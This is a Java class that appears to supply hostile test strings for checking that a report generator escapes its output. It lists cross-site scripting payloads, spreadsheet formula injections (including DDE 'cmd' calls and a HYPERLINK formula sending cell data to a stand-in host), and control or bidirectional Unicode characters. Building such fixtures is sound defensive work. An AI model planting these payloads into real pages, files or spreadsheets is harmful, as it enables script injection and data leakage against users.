package io.github.lstmsweep.report;

import java.util.ArrayList;
import java.util.List;

/** Texts that try to become markup, script, formulas, commands of a terminal or another text. */
public final class HostileStrings {
  private static final String SCRIPT = "window.hacked=1";

  private static final List<String> FORMS =
      List.of(
          "<script>%s</script>",
          "</script><script>%s</script>",
          "</SCRIPT ><script>%s</script>",
          "<!--<script>%s</script>-->",
          "<!-- --!><script>%s</script>",
          "]]><script>%s</script>",
          "<img src=x onerror=%s>",
          "\"><img src=x onerror=%s>",
          "'><img src=x onerror='%s'>",
          "<svg onload=%s>",
          "<svg><script>%s</script></svg>",
          "<math><mtext></mtext><script>%s</script></math>",
          "</td></tr></table><script>%s</script>",
          "</title><script>%s</script>",
          "</style><script>%s</script>",
          "</text></svg><script>%s</script>",
          "\" onmouseover=\"%s\" x=\"",
          "' onfocus='%s' autofocus x='",
          "` onclick=`%s`",
          "<a href=javascript:%s>x</a>",
          "<iframe srcdoc='<script>parent.%s</script>'></iframe>",
          "<meta http-equiv=refresh content='0;url=javascript:%s'>",
          "<base href='https://example.invalid/'>",
          "<link rel=stylesheet href='https://example.invalid/x.css'>",
          "<style>@import 'https://example.invalid/x.css';</style>",
          "<form action='https://example.invalid/'><input name=x>",
          "<template><script>%s</script></template>",
          "<noscript><img src=x onerror=%s></noscript>",
          "<object data='data:text/html,<script>%s</script>'></object>",
          "&lt;script&gt;%s&lt;/script&gt;",
          "&#60;script&#62;%s&#60;/script&#62;",
          "\\u003cscript\\u003e%s\\u003c/script\\u003e",
          "{{constructor.constructor('%s')()}}",
          "${%s}",
          "\";%s;//",
          "\\\";%s;//",
          "=HYPERLINK(\"https://example.invalid/?\"&A1)",
          "=cmd|' /C calc'!A0",
          "+1+cmd|' /C calc'!A0",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1");

  private static final List<String> ODD =
      List.of(
          "\u0000",
          "\u0000<b>\u0000</b>",
          "\u001b[31mred\u001b[0m",
          "\u001b]0;title\u0007",
          "\u001b[2J\u001b[H",
          "\u009b31m",
          "\u202egpj.exe\u202c",
          "\u2066isolated\u2069",
          "\u200fright\u200e",
          "\u061c",
          "\ud800",
          "\udc00\ud800",
          "\ufeff",
          "\ufffe\uffff",
          "line\nfeed",
          "carriage\rreturn",
          "a,b\"c\"\r\nd",
          "tab\tbed",
          "\u2028\u2029",
          "\u0085",
          "\ud83d\ude00\u200d\u2640",
          "e\u0301",
          "x".repeat(2_000),
          " leading and trailing ",
          "   ",
          "",
          "null",
          "NaN",
          "__proto__",
          "constructor");

  private HostileStrings() {}

  /** Returns all texts; each is another. */
  public static List<String> all() {
    List<String> all = new ArrayList<>(ODD);
    for (String form : FORMS) {
      String text = form.replace("%s", SCRIPT);
      all.add(text);
      all.add("it has " + text);
      all.add(text.toUpperCase(java.util.Locale.ROOT));
      all.add("\u202e" + text);
    }
    return all;
  }
}
